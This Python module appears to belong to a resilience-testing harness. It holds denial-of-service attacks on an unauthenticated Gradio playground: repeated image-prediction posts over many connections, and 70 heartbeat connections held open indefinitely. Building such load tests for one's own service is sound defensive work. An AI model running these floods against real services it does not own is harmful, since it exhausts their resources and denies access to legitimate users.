"""Attacks on the published playground, which needs no key."""

import asyncio
import base64
import re
from collections.abc import Callable

import orjson

from resilience.attacks.attack import Act, Run
from resilience.attacks.connections import connected, trusting
from resilience.attacks.posts import JSON, Post, send

_PAGE = "/playground/"
_ASK = "/playground/gradio_api/component_server/"
_COMPONENT = re.compile(rb'"id":(\d+),"type":"html"')
_HEARTBEATS = 70


def drawings(file: Callable[[], bytes], connections: int) -> Callable[[], Act]:
    """Prepare an image file that each of the connections has predicted again and again."""

    def prepare() -> Act:
        text = base64.b64encode(file()).decode()

        async def act(run: Run) -> None:
            question = {"session_hash": "attack", "component_id": await _component(run), "fn_name": "predict"}
            request = Post(orjson.dumps(question | {"data": {"image": text}}), JSON, _ASK).request()
            await send(run, connections, lambda _: request)

        return act

    return prepare


def heartbeats() -> Act:
    """Prepare answers that never end."""

    async def act(run: Run) -> None:
        async def once(index: int) -> None:
            async with connected(run.victim, trusting(run.victim.authority)) as connection:
                connection.writer.write(_get(f"/playground/gradio_api/heartbeat/h{index}"))
                run.answers[(await connection.reader.readexactly(12)).decode()[-3:]] += 1
                while await connection.reader.read(1024):
                    await asyncio.sleep(0)

        await run.repeat(_HEARTBEATS, once)

    return act


async def _component(run: Run) -> int:
    """The number of the page's component. Raises ValueError if there is no page."""
    async with connected(run.victim, trusting(run.victim.authority)) as connection:
        connection.writer.write(_get(_PAGE))
        page = await connection.reader.read(-1)
    if not (component := _COMPONENT.search(page)):
        raise ValueError(f"{_PAGE} has no component: {page[:80]!r}")
    return int(component[1])


def _get(path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
